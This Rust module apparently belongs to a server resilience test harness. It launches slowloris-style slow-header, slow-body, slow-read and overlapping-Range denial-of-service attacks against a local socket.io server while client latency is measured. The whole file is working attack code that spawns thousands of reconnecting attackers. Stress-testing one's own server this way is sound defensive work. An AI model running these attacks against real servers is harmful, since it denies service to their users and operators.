//! Slow attackers, on a thread of their own so that they take no time from the clients whose echoes are measured.
//!
//! These are the four modes of the tool slowhttptest, but for one thing: who is turned away comes again.

use std::io;
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::JoinHandle;
use std::time::Duration;

use tokio::net::{TcpSocket, TcpStream};
use tokio::runtime::Builder;
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

/// What the attackers do.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Mode {
    /// A head whose headers come one in a second, without end.
    Headers,
    /// A body of which ten bytes come in a second.
    Body,
    /// Many requests, and sixteen bytes of their answers read in a second.
    Read,
    /// Requests for more than a thousand overlapping ranges.
    Range,
}

/// Attackers at work.
#[derive(Debug)]
pub(crate) struct Siege {
    lifted: Arc<AtomicBool>,
    counts: Arc<Counts>,
    thread: Option<JoinHandle<()>>,
}

#[derive(Debug, Default)]
struct Counts {
    open: AtomicU64,
    came: AtomicU64,
    turned_away: AtomicU64,
}

/// From one step of an attacker to the next.
const STEP: Duration = Duration::from_secs(1);
/// The same where each step is a whole request of several kilobytes.
const RANGE_STEP: Duration = Duration::from_secs(5);
/// How often it is looked whether all is over.
const LOOK: Duration = Duration::from_millis(50);
/// Attackers that come in a second.
const PACE: u32 = 2000;

impl Mode {
    pub(crate) const ALL: [Self; 4] = [Self::Headers, Self::Body, Self::Read, Self::Range];

    pub(crate) const fn name(self) -> &'static str {
        match self {
            Self::Headers => "slow headers",
            Self::Body => "slow body",
            Self::Read => "slow read",
            Self::Range => "ranges",
        }
    }
}

impl Siege {
    /// Sets so many attackers on a server.
    pub(crate) fn lay(mode: Mode, server: SocketAddr, attackers: usize) -> Self {
        let (lifted, counts) = (Arc::new(AtomicBool::new(false)), Arc::new(Counts::default()));
        let (over, counting) = (Arc::clone(&lifted), Arc::clone(&counts));
        let thread = std::thread::spawn(move || {
            let Ok(runtime) = Builder::new_current_thread().enable_all().build() else { return };
            runtime.block_on(async {
                let mut attacking = JoinSet::new();
                for number in 0..attackers {
                    attacking.spawn(attack(mode, server, number, Arc::clone(&counting)));
                    sleep(Duration::from_secs(1) / PACE).await;
                }
                while !over.load(Ordering::Relaxed) {
                    sleep(LOOK).await;
                }
            });
        });
        Self { lifted, counts, thread: Some(thread) }
    }

    /// Connections that are open now.
    pub(crate) fn open(&self) -> u64 {
        self.counts.open.load(Ordering::Relaxed)
    }

    /// Lets all of them go, and says how many connections there were, and how many the server ended.
    pub(crate) fn lift(mut self) -> (u64, u64) {
        self.lifted.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            // A thread that panicked has let go as well.
            let _ = thread.join();
        }
        (self.counts.came.load(Ordering::Relaxed), self.counts.turned_away.load(Ordering::Relaxed))
    }
}

/// One attacker, for as long as it may.
async fn attack(mode: Mode, server: SocketAddr, number: usize, counts: Arc<Counts>) {
    loop {
        if let Ok(stream) = connect(mode, server).await {
            counts.open.fetch_add(1, Ordering::Relaxed);
            counts.came.fetch_add(1, Ordering::Relaxed);
            // The end is an error like any other.
            let _ = besiege(mode, number, &stream).await;
            counts.open.fetch_sub(1, Ordering::Relaxed);
            counts.turned_away.fetch_add(1, Ordering::Relaxed);
        }
        sleep(STEP).await;
    }
}

async fn connect(mode: Mode, server: SocketAddr) -> io::Result<TcpStream> {
    let socket = if server.is_ipv4() { TcpSocket::new_v4()? } else { TcpSocket::new_v6()? };
    if mode == Mode::Read {
        socket.set_recv_buffer_size(2048)?;
    }
    socket.connect(server).await
}

/// Does its worst until the server ends the connection, which is an error.
async fn besiege(mode: Mode, number: usize, stream: &TcpStream) -> io::Result<()> {
    match mode {
        Mode::Headers => {
            send(stream, b"GET /socket.io/1/ HTTP/1.1\r\nHost: 127.0.0.1\r\n").await?;
            loop {
                send(stream, b"X-Slow: headers\r\n").await?;
                look(stream, STEP, 4096).await?;
            }
        }
        Mode::Body => {
            send(
                stream,
                b"POST /socket.io/1/xhr-polling/x HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 8192\r\n\r\n",
            )
            .await?;
            loop {
                send(stream, b"0123456789").await?;
                look(stream, STEP, 4096).await?;
            }
        }
        Mode::Read => {
            // The answers are small here, so that it takes hundreds to fill what lies between server and reader. If all did
            // that, it would be a flood of requests and not a slow attack.
            let requests = if number.is_multiple_of(10) { 600 } else { 50 };
            send(stream, &b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".repeat(requests)).await?;
            loop {
                sleep(STEP).await;
                look(stream, STEP, 16).await?;
            }
        }
        Mode::Range => {
            let ranges: String = (0..1300).map(|end| format!(",5-{end}")).collect();
            let request = format!("GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nRange: bytes=0-{ranges}\r\n\r\n");
            loop {
                send(stream, request.as_bytes()).await?;
                look(stream, STEP, 4096).await?;
                sleep(RANGE_STEP).await;
            }
        }
    }
}

async fn send(stream: &TcpStream, mut bytes: &[u8]) -> io::Result<()> {
    while !bytes.is_empty() {
        stream.writable().await?;
        match stream.try_write(bytes) {
            Ok(count) => bytes = &bytes[count..],
            Err(error) if error.kind() == io::ErrorKind::WouldBlock => {}
            Err(error) => return Err(error),
        }
    }
    Ok(())
}

/// Waits for a while, and reads a little if something comes. The end of the connection is an error.
async fn look(stream: &TcpStream, time: Duration, most: usize) -> io::Result<()> {
    let mut buffer = [0; 4096];
    let read = async {
        loop {
            stream.readable().await?;
            match stream.try_read(&mut buffer[..most]) {
                Ok(0) => return Err(io::ErrorKind::UnexpectedEof.into()),
                Ok(_) => return Ok(()),
                Err(error) if error.kind() == io::ErrorKind::WouldBlock => {}
                Err(error) => return Err(error),
            }
        }
    };
    timeout(time, read).await.unwrap_or(Ok(()))
}
